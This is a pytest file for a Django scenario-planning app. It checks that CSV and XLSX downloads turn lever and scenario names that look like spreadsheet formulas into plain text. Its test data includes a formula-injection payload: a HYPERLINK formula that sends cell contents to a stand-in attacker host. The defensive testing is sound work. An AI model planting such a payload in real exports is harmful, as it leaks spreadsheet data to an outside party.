"""Finding 3: a lever (or scenario) named like a formula must stay text in every download."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from typing import Any

import openpyxl
import pytest
from django.test import Client

from careshift.apps.scenarios import services

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def evil_run(sample_spec: dict[str, Any], run_scenario: Callable[..., Any]) -> Any:
    first = sample_spec["levers"][0]
    spec = {**sample_spec, "levers": [{**first, "name": EVIL}, *sample_spec["levers"][1:]]}
    costs = spec["finance"]["implementation_cost"]
    spec["finance"] = {
        **spec["finance"],
        "implementation_cost": {EVIL if k == first["name"] else k: v for k, v in costs.items()},
    }
    scenario = services.create_scenario(None, name="+SUM(1,2) plan", spec=spec)
    run = run_scenario(scenario)
    assert run.status == "succeeded", (run.error_message, run.error_hint)
    return run


def test_the_waterfall_csv_keeps_a_formula_named_lever_as_text(viewer_client: Client, evil_run: Any) -> None:
    url = f"/scenarios/runs/{evil_run.pk}/download.csv"
    body = viewer_client.get(url, {"table": "waterfall"}).content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert "'" + EVIL in cells  # shown as text, with the apostrophe a spreadsheet hides
    text = [c for c in cells if not _is_number(c)]
    assert not [c for c in text if c.startswith(FORMULA_STARTS)]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_no_xlsx_sheet_holds_a_formula(viewer_client: Client, evil_run: Any) -> None:
    content = viewer_client.get(f"/scenarios/runs/{evil_run.pk}/download.xlsx").content
    book = openpyxl.load_workbook(io.BytesIO(content))
    found = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (
                    isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS)
                ):
                    found[f"{sheet.title}!{cell.coordinate}"] = cell.value
    assert found == {}
    shown = {
        sheet.title: [c for r in sheet.iter_rows(values_only=True) for c in r] for sheet in book.worksheets
    }
    assert "'" + EVIL in shown["waterfall"] and "'" + EVIL in shown["levers"]
    assert "'+SUM(1,2) plan" in shown["metadata"]  # the scenario's name, as text
    assert any(isinstance(v, str) and v.startswith("'+SUM(1,2) plan, run") for v in shown["summary"])
    negative = [v for v in shown["waterfall"] if isinstance(v, float) and v < 0]
    assert negative  # negative changes stay numbers: only text is neutralised
